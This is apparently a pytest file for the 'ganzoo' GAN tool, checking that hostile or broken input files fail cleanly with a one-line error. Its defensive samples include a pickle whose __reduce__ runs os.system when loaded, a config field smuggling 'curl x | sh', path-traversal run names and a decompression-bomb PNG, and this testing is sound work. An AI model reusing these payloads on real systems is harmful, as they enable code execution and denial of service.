"""Hostile and broken input (issue #22): every case ends in one line, names the bad file or key,
runs nothing and writes nothing outside its run directory.

Each hostile file is generated here, at test time (no binary fixtures to trust). A case is a
function that builds its files under ``tmp`` and returns the ``ganzoo`` arguments and the
words the one line must contain.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import torch
from conftest import TINY_DIGITS, write_recipe

CAP_GIB = "2"  # the memory cap of these tests, whatever the machine has


def _bundle(tmp: Path, architecture: str, config: dict, **index) -> Path:
    folder = tmp / "bundle"
    folder.mkdir()
    meta = {"format": "ganzoo-bundle", "format_version": 1, "architecture": architecture,
            "config": config, "components": {}, "training_components": {},
            "training_files": {}, **index}
    (folder / "config.json").write_text(json.dumps(meta))
    return folder


def _generate(folder: Path, tmp: Path) -> list:
    return ["generate", folder, "-o", tmp / "out" / "grid.png", "-n", "1"]


DCGAN_AT_CAPS = {"resolution": 128, "channels": 3, "z_dim": 4096, "gen_width": 1024,
                 "disc_width": 1024}


# -- 2. allocations a small file asks for --------------------------------------------------------
def case_bundle_config_at_every_cap(tmp):
    folder = _bundle(tmp, "dcgan", DCGAN_AT_CAPS)
    return _generate(folder, tmp), [f"{folder / 'config.json'}", "GiB", "GANZOO_MAX_MODEL_GIB"]


def case_pix2pix_bundle_at_its_caps(tmp):
    folder = _bundle(tmp, "pix2pix", {"resolution": 4096, "depth": 12, "gen_width": 1024,
                                      "disc_width": 1024, "input_nc": 64, "output_nc": 64})
    return _generate(folder, tmp), [f"{folder / 'config.json'}", "GiB", "GANZOO_MAX_MODEL_GIB"]


def case_recipe_that_dry_run_used_to_accept(tmp):
    recipe = write_recipe(tmp / "big.toml", {
        **TINY_DIGITS, "data": {"dataset": "digits", "resolution": 64},
        "model": {"resolution": 64, "channels": 1, "z_dim": 4096, "gen_width": 1024,
                  "disc_width": 1024}})
    return ["run", recipe, "--dry-run"], [str(recipe), "training at batch_size 8",
                                          "GANZOO_MAX_MODEL_GIB"]


def case_stride0_tensors_in_a_third_party_file(tmp):
    path = tmp / "latest_net_G.pth"
    # 8 bytes of storage posing as a 1024 x 1024 x 3 x 3 convolution (36 MiB)
    torch.save({"model.1.weight": torch.zeros(1).expand(1024, 1024, 3, 3)}, path)
    return ["convert", "cyclegan", path, "-o", tmp / "out"], [str(path), "'model.1.weight'",
                                                             "stride-0"]


# -- 3. reads that never end ------------------------------------------------------------------
def case_recipe_base_dev_zero(tmp):
    recipe = write_recipe(tmp / "r.toml", {"base": "/dev/zero", **TINY_DIGITS})
    return ["run", recipe, "--dry-run"], ["/dev/zero", "character device", "regular files"]


def _isolated(case):
    """Run this case in a subprocess with a timeout: a hang is a failure, not a dead test run."""
    case.isolated = True
    return case


@_isolated
def case_recipe_base_fifo(tmp):
    os.mkfifo(tmp / "base.toml")
    recipe = write_recipe(tmp / "r.toml", {"base": "base.toml", **TINY_DIGITS})
    return ["run", recipe, "--dry-run"], [str(tmp / "base.toml"), "a FIFO"]


@_isolated
def case_recipe_itself_a_fifo(tmp):
    os.mkfifo(tmp / "r.toml")
    return ["run", tmp / "r.toml", "--dry-run"], [str(tmp / "r.toml"), "a FIFO"]


@_isolated
def case_bundle_index_a_fifo(tmp):
    (tmp / "bundle").mkdir()
    os.mkfifo(tmp / "bundle" / "config.json")
    return _generate(tmp / "bundle", tmp), [str(tmp / "bundle"), "neither a ganzoo run directory"]


# -- 6. where a run goes ------------------------------------------------------------------------
def _named(name):
    def case(tmp):
        recipe = write_recipe(tmp / "r.toml", {**TINY_DIGITS, "name": name})
        return ["run", recipe, "--dry-run"], [str(recipe), "name = ", "one folder name"]
    case.__name__ = f"case_run_name_{name[:8]!r}"
    return case


# -- 7. unchecked structure -----------------------------------------------------------------
def _index_case(key, value, words):
    def case(tmp):
        index = {"config": {}, key: value} if key != "architecture" else {"config": {}}
        folder = _bundle(tmp, value if key == "architecture" else "dcgan", **{
            k: v for k, v in index.items() if k != "config"}, config=index["config"])
        return _generate(folder, tmp), [str(folder / "config.json"), *words]
    case.__name__ = f"case_index_{key}_{type(value).__name__}"
    return case


def case_json_nested_thousands_deep(tmp):
    folder = tmp / "bundle"
    folder.mkdir()
    (folder / "config.json").write_text("[" * 100_000 + "]" * 100_000)
    return _generate(folder, tmp), [str(folder / "config.json"), "nested too deeply"]


def case_toml_nested_thousands_deep(tmp):
    recipe = tmp / "r.toml"
    recipe.write_text("x = " + "[" * 50_000 + "]" * 50_000 + "\n")
    return ["run", recipe, "--dry-run"], [str(recipe), "nested too deeply"]


def case_a_1200_file_base_chain(tmp):
    for i in range(1200):
        write_recipe(tmp / f"r{i}.toml", {"base": f"r{i + 1}.toml"} if i < 1199 else TINY_DIGITS)
    return ["run", tmp / "r0.toml", "--dry-run"], [str(tmp / "r0.toml"), "flatten the chain"]


def case_seed_2_to_the_64(tmp):
    recipe = write_recipe(tmp / "r.toml", TINY_DIGITS)
    return ["run", recipe, "--dry-run", "--set", f"seed={2**64}"], [str(recipe), "seed = "]


def case_embeddings_of_strings(tmp):
    import numpy as np

    path = tmp / "emb.npy"
    from ganzoo.hub.bundle import write_bundle
    from ganzoo.testing import tiny_model

    np.save(path, np.array([["a", "b"]]))
    folder = write_bundle(tiny_model("stackgan"), tmp / "bundle", components="inference")
    return ["generate", folder, "--embeddings", path, "-o", tmp / "out.png"], [
        str(path), "must be numbers"]


def case_truncated_torch_zip(tmp):
    path = tmp / "latest_net_G.pth"
    torch.save({"w": torch.zeros(100)}, path)
    path.write_bytes(path.read_bytes()[:300])
    return ["convert", "cyclegan", path, "-o", tmp / "out"], [str(path), "refused"]


class _Canary:
    path = ""

    def __reduce__(self):
        return (os.system, (f"touch {self.path}",))


def case_pth_that_would_run_code(tmp):
    path = tmp / "latest_net_G.pth"
    _Canary.path = str(tmp / "canary")
    torch.save({"w": _Canary()}, path)
    return ["convert", "cyclegan", path, "-o", tmp / "out"], [str(path), "the global posix.system"]


# -- 9. advice from a file ------------------------------------------------------------------
def case_distribution_that_is_a_command(tmp):
    folder = _bundle(tmp, "nosuch", {}, plugin={"distribution": "evil; curl x | sh"})
    return _generate(folder, tmp), [str(folder / "config.json"), "install the plugin"]


# -- 8. silently wrong ----------------------------------------------------------------------
def case_component_path_wildcard(tmp):
    folder = _bundle(tmp, "dcgan", {}, components={"gen": "*"})
    return _generate(folder, tmp), [str(folder / "config.json"), "'*'", "wildcard"]


# -- 4./10. unusable output folders: one line, and no lock or pid file left in them -------------
def _out_case(out, words):
    def case(tmp):
        recipe = write_recipe(tmp / "r.toml", {**TINY_DIGITS, "train": {
            **TINY_DIGITS["train"], "steps": 1}})
        target = out(tmp) if callable(out) else Path(out)
        return ["run", recipe, "--out", target, "-q"], [str(target), *words]
    case.__name__ = f"case_out_{out if isinstance(out, str) else out.__name__}"
    return case


def holding_files(tmp):
    (tmp / "busy").mkdir()
    (tmp / "busy" / "notes.txt").write_text("mine")
    return tmp / "busy"


def a_file(tmp):
    (tmp / "file").write_text("x")
    return tmp / "file"


def case_resume_bundle_whose_recipe_names_a_base(tmp):
    from ganzoo.hub.bundle import write_bundle
    from ganzoo.testing import tiny_model

    (tmp / "src").mkdir()
    recipe = write_recipe(tmp / "src" / "recipe.toml", {"base": "/etc/hostname", **TINY_DIGITS})
    (tmp / "src" / "checkpoint.safetensors").write_bytes(b"")
    folder = write_bundle(tiny_model("dcgan"), tmp / "bundle", training_files={
        "recipe.toml": recipe, "checkpoint.safetensors": tmp / "src" / "checkpoint.safetensors"})
    return ["run", "--resume", folder, "--out", tmp / "new"], [
        str(folder / "training" / "recipe.toml"), "base = '/etc/hostname' refused"]


# -- ganzoo report: reads only the run's own regular files -----------------------------------
def _run_dir(tmp: Path) -> Path:
    run = tmp / "run"
    (run / "samples").mkdir(parents=True)
    write_recipe(run / "recipe.toml", {**TINY_DIGITS, "name": "tiny"})
    (run / "metrics.jsonl").write_text('{"step": 2, "loss_d": 1.0}\n{"step": "x"}\n[1]\n{"ste')
    return run


@_isolated
def case_report_sample_that_is_a_fifo(tmp):
    run = _run_dir(tmp)
    os.mkfifo(run / "samples" / "step-000002.png")
    return ["report", run], [str(run / "samples" / "step-000002.png"), "a FIFO"]


def case_report_sample_linked_out_of_the_run(tmp):
    run = _run_dir(tmp)
    (run / "samples" / "final.png").symlink_to("/etc/passwd")
    return ["report", run], [str(run / "samples" / "final.png"), "symbolic link"]


def case_report_damaged_run_json(tmp):
    run = _run_dir(tmp)
    (run / "run.json").write_text('{"plugins": ')
    return ["report", run], [str(run / "run.json"), "damaged"]


def _override_case(text, words):
    def case(tmp):
        recipe = write_recipe(tmp / "r.toml", TINY_DIGITS)
        return ["run", recipe, "--dry-run", "--set", text], words
    case.__name__ = f"case_set_{text[:12]!r}"
    return case


@_isolated
def case_bundle_training_recipe_that_is_a_fifo(tmp):
    from ganzoo.hub.bundle import write_bundle
    from ganzoo.testing import tiny_model

    (tmp / "src").mkdir()
    recipe = write_recipe(tmp / "src" / "recipe.toml", TINY_DIGITS)
    (tmp / "src" / "checkpoint.safetensors").write_bytes(b"")
    folder = write_bundle(tiny_model("dcgan"), tmp / "bundle", training_files={
        "recipe.toml": recipe, "checkpoint.safetensors": tmp / "src" / "checkpoint.safetensors"})
    (folder / "training" / "recipe.toml").unlink()
    os.mkfifo(folder / "training" / "recipe.toml")
    return ["run", "--resume", folder, "--out", tmp / "new"], [
        str(folder / "training" / "recipe.toml"), "a FIFO"]


CASES = [
    case_bundle_training_recipe_that_is_a_fifo,
    _override_case("base=/etc/hostname", ["--set 'base=/etc/hostname'", "recipe file"]),
    _override_case("train.steps=3\nseed=4", ["newline"]),
    case_report_sample_that_is_a_fifo, case_report_sample_linked_out_of_the_run,
    case_report_damaged_run_json,
    _out_case("/dev/null", ["exists and is not a directory"]),
    _out_case("/proc/x", ["cannot create the output folder"]),
    _out_case(holding_files, ["not empty"]),
    case_resume_bundle_whose_recipe_names_a_base,
    case_bundle_config_at_every_cap, case_pix2pix_bundle_at_its_caps,
    case_recipe_that_dry_run_used_to_accept, case_stride0_tensors_in_a_third_party_file,
    case_recipe_base_dev_zero, case_recipe_base_fifo, case_recipe_itself_a_fifo,
    case_bundle_index_a_fifo,
    *[_named(n) for n in ["../escaped", "/tmp/abs", "a\x00b", "x" * 300, "..", "-rf"]],
    _index_case("architecture", 7, ["\"architecture\" must be a string"]),
    _index_case("architecture", None, ["\"architecture\" must be a string"]),
    _index_case("architecture", ["dcgan"], ["\"architecture\" must be a string"]),
    _index_case("config", ["z_dim", 8], ["\"config\" must be an object"]),
    _index_case("format_version", "1", ["\"format_version\" must be an integer"]),
    _index_case("plugin", "ganzoo_dcgan", ["\"plugin\" must be an object"]),
    _index_case("components", ["gen"], ["'components' must be an object"]),
    case_json_nested_thousands_deep, case_toml_nested_thousands_deep,
    case_a_1200_file_base_chain, case_seed_2_to_the_64, case_embeddings_of_strings,
    case_truncated_torch_zip, case_pth_that_would_run_code,
    case_distribution_that_is_a_command, case_component_path_wildcard,
]


def _tree(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


RUN = """
import sys
from ganzoo.apps.cli import main
main(sys.argv[1:])
"""


def _ganzoo(args: list, tmp: Path, isolated: bool) -> tuple[int, str]:
    if not isolated:
        from click.testing import CliRunner

        from ganzoo.apps.cli import cli

        result = CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)
        return result.exit_code, result.output
    env = {**os.environ, "OMP_NUM_THREADS": "1"}
    proc = subprocess.run([sys.executable, "-c", RUN, *map(str, args)], capture_output=True,
                          text=True, timeout=120, env=env, cwd=tmp)
    return proc.returncode, proc.stderr


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.__name__.removeprefix("case_"))
def test_hostile_input_is_one_line_naming_it(case, tmp_path, monkeypatch):
    tmp = tmp_path / "case"
    tmp.mkdir()
    monkeypatch.chdir(tmp)
    monkeypatch.setenv("GANZOO_MAX_MODEL_GIB", CAP_GIB)
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    args, words = case(tmp)
    before = _tree(tmp_path)
    status, output = _ganzoo(args, tmp, getattr(case, "isolated", False))
    lines = output.strip().splitlines()
    assert status == 1, (status, output[-2000:])
    assert len(lines) == 1 and lines[0].startswith("ganzoo: "), output[-2000:]
    for word in words:
        assert word in lines[0], (word, lines[0])
    assert "Traceback" not in output and "pip install evil" not in output
    assert not (tmp / "canary").exists()  # nothing in the file ran
    assert _tree(tmp_path) == before  # nothing written anywhere (no out dir, lock or temp file)


def test_report_skips_damaged_metric_lines(tmp_path, cli):
    run = _run_dir(tmp_path)
    result = cli("report", run)
    assert result.exit_code == 0, result.output
    assert "tiny" in (run / "report.html").read_text()


def test_out_slash_is_refused_without_a_lock_in_it(tiny_recipe, cli):
    had = {p for p in ("/.lock", "/run.pid") if Path(p).exists()}
    result = cli("run", tiny_recipe, "--out", "/", "-q")
    assert result.exit_code == 1 and result.output.startswith("ganzoo: /: the output folder is "
                                                              "not empty"), result.output
    assert {p for p in ("/.lock", "/run.pid") if Path(p).exists()} == had


def test_writes_inside_a_locked_run_never_re_create_its_folder(tmp_path):
    import shutil

    from ganzoo.base.errors import WriteError
    from ganzoo.base.io import atomic_write_text
    from ganzoo.training import rundir

    run = tmp_path / "run"
    with pytest.raises(WriteError, match="the run directory .* is gone"):
        with rundir.locked(run):
            atomic_write_text(run / "samples" / "step-000001.png", "ok")  # subfolders: fine
            shutil.rmtree(run)
            atomic_write_text(run / "samples" / "step-000002.png", "no")
    assert not run.exists()


def test_a_resumed_run_cleans_the_temp_files_of_killed_writes(tmp_path):
    from ganzoo.training import rundir

    run = tmp_path / "run"
    (run / "weights" / "gen").mkdir(parents=True)
    for name in ("recipe.toml", "run.json"):
        (run / name).write_text("{}")
    litter = [run / ".checkpoint.safetensors.ab12_x9Z.tmp",
              run / "weights" / "gen" / ".model.safetensors.0123abcd.tmp"]
    for path in litter:
        path.write_bytes(b"half")
    keep = run / ".notes.tmp"  # not a name atomic writes make
    keep.write_text("mine")
    with rundir.locked(run):
        assert not any(p.exists() for p in litter)
    assert keep.exists()


def test_published_files_get_the_usual_mode(tmp_path):
    """safetensors replaces the prepared temp file with one of mode 0600; the published file
    gets 0666 minus the umask (0644 under the usual 022), as ``open`` would give it."""
    import stat

    from safetensors.torch import save_file

    import ganzoo.base.io
    from ganzoo.base.io import atomic_write_with

    target = tmp_path / "model.safetensors"
    atomic_write_with(target, lambda tmp: save_file({"w": torch.zeros(2)}, str(tmp)))
    assert stat.S_IMODE(target.stat().st_mode) == 0o666 & ~ganzoo.base.io._UMASK


# -- 8. silently wrong images and weights ---------------------------------------------------
def _png_claiming(width: int, height: int) -> bytes:
    """A PNG header claiming width x height grayscale pixels, with a tiny IDAT: ~60 bytes."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64))
            + chunk(b"IEND", b""))


def test_a_png_claiming_144_mpixels_is_refused_before_decoding(tmp_path):
    from ganzoo.data.images import load_image
    from ganzoo.base.errors import DataError

    path = tmp_path / "bomb.png"
    path.write_bytes(_png_claiming(12000, 12000))
    with pytest.raises(DataError, match=r"bomb.png: 12000 x 12000 is 144 Mpixels, over the 64 "):
        load_image(path, 1)


def test_16_bit_pngs_are_scaled_not_clipped(tmp_path):
    import numpy as np
    from PIL import Image

    from ganzoo.data.images import load_image

    gradient = np.linspace(0, 65535, 256).astype(np.uint16).reshape(1, 256).repeat(4, 0)
    path = tmp_path / "deep.png"
    Image.fromarray(gradient).save(path)
    assert Image.open(path).mode.startswith("I")
    pixels = (load_image(path, 1)[0, 0] + 1) * 127.5
    expected = torch.from_numpy(np.rint(gradient[0] / 257.0))
    assert torch.allclose(pixels.double(), expected.double(), atol=0.51)
    assert (pixels > 254).float().mean() < 0.01  # was 99.5 % white


def test_tiff_images_are_found_and_read(tmp_path):
    import numpy as np
    from PIL import Image

    from ganzoo.data.folder import find_images
    from ganzoo.data.images import load_image

    for suffix in (".tif", ".tiff"):
        Image.fromarray(np.full((8, 8, 3), 200, np.uint8)).save(tmp_path / f"a{suffix}")
    found = find_images(tmp_path)
    assert [p.name for p in found] == ["a.tif", "a.tiff"]
    assert torch.allclose(load_image(found[0], 3), torch.full((3, 8, 8), 200 / 127.5 - 1))


@pytest.mark.parametrize("dtype", ["int32", "bool", "float8_e4m3fn", "complex64", "nan"])
def test_weights_of_the_wrong_dtype_or_nan_are_refused(tmp_path, dtype):
    from safetensors.torch import load_file, save_file

    import ganzoo
    from ganzoo.hub.bundle import write_bundle
    from ganzoo.testing import tiny_model

    folder = write_bundle(tiny_model("dcgan"), tmp_path / "b", components="inference")
    path = folder / "gen" / "model.safetensors"
    tensors = load_file(str(path))
    key = next(k for k, v in tensors.items() if v.is_floating_point() and v.numel() > 1)
    tensors[key] = (tensors[key].clone().fill_(float("nan")) if dtype == "nan"
                    else tensors[key].to(getattr(torch, dtype)))
    save_file(tensors, str(path))
    with pytest.raises(ganzoo.CheckpointError, match=f"{path}: tensor '{key}' "):
        ganzoo.load(folder)


def test_a_mis_shaped_pix2pix_tensor_is_one_line_naming_it(tmp_path, cli):
    from paired_fixtures import ReferenceUnet

    state = ReferenceUnet(3, 3, 5, 4).state_dict()
    key = next(k for k, v in state.items() if k.endswith("weight") and v.dim() == 4
               and k != "model.model.0.weight" and not k.startswith("model.model.3."))
    state[key] = torch.zeros(*state[key].shape[:-1], state[key].shape[-1] + 1)
    path = tmp_path / "latest_net_G.pth"
    torch.save(state, path)
    result = cli("convert", "pix2pix", path, "-o", tmp_path / "out")
    assert result.exit_code == 1, result.output
    assert result.output.startswith(f"ganzoo: {path}: "), result.output
    assert "has shape" in result.output and len(result.output.strip().splitlines()) == 1
    assert not (tmp_path / "out").exists()


def test_an_empty_inception_weights_file_is_one_line(tmp_path, monkeypatch):
    from ganzoo.base.errors import GanzooError
    from ganzoo.metrics.inception import ENV, InceptionFeatures

    (tmp_path / "weights.pth").write_bytes(b"")
    monkeypatch.setenv(ENV, str(tmp_path / "weights.pth"))
    with pytest.warns(UserWarning):  # not the published file's sha256
        with pytest.raises(GanzooError, match=f"{ENV}=.*weights.pth: not a PyTorch state dict"):
            InceptionFeatures()


def test_an_unreachable_hub_is_one_line_without_half_a_minute_of_retries(tmp_path, cli,
                                                                         monkeypatch):
    import socket
    import time

    from huggingface_hub import constants

    with socket.socket() as probe:  # a port nothing listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    monkeypatch.setattr(constants, "ENDPOINT", f"http://127.0.0.1:{port}")
    monkeypatch.setattr(constants, "HF_HUB_OFFLINE", False)
    monkeypatch.setenv("HF_HUB_CACHE", str(tmp_path / "cache"))
    monkeypatch.setattr(constants, "HF_HUB_CACHE", str(tmp_path / "cache"))
    started = time.monotonic()
    result = cli("generate", "someone/some-gan", "-o", tmp_path / "x.png")
    assert time.monotonic() - started < 10
    assert result.exit_code == 1, result.output
    assert result.output.strip().splitlines() == [
        "ganzoo: someone/some-gan: the Hub cannot be reached and this model is not in the local "
        "cache; connect once to download it, or load a local folder"]


def test_a_dataset_pickle_that_is_a_fifo_is_one_line_not_a_hang(tmp_path):
    os.mkfifo(tmp_path / "filenames.pickle")
    code = ("import sys\nfrom ganzoo import GanzooError, safe_pickle\ntry:\n"
            "    safe_pickle.load(sys.argv[1])\nexcept GanzooError as exc:\n    print(exc)\n")
    proc = subprocess.run([sys.executable, "-c", code, str(tmp_path / "filenames.pickle")],
                          capture_output=True, text=True, timeout=60)
    assert proc.stdout.strip() == (f"{tmp_path / 'filenames.pickle'}: is a FIFO, not a regular "
                                   "file; ganzoo reads only regular files"), proc
